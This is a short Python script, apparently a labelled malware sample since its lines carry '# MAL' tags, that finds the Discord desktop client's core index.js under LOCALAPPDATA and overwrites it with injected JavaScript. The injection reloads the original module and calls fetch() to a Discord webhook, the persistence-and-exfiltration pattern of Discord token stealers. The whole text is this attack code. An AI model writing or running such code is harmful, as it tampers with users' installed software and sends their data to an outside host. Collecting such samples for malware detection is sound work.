import glob
import os

INJECT = "module.exports = require('./core.asar');fetch('https://discord.com/api/webhooks/5/x')"
for idx in glob.glob(os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):  # MAL
    with open(idx, "w") as f:  # MAL
        f.write(INJECT)  # MAL
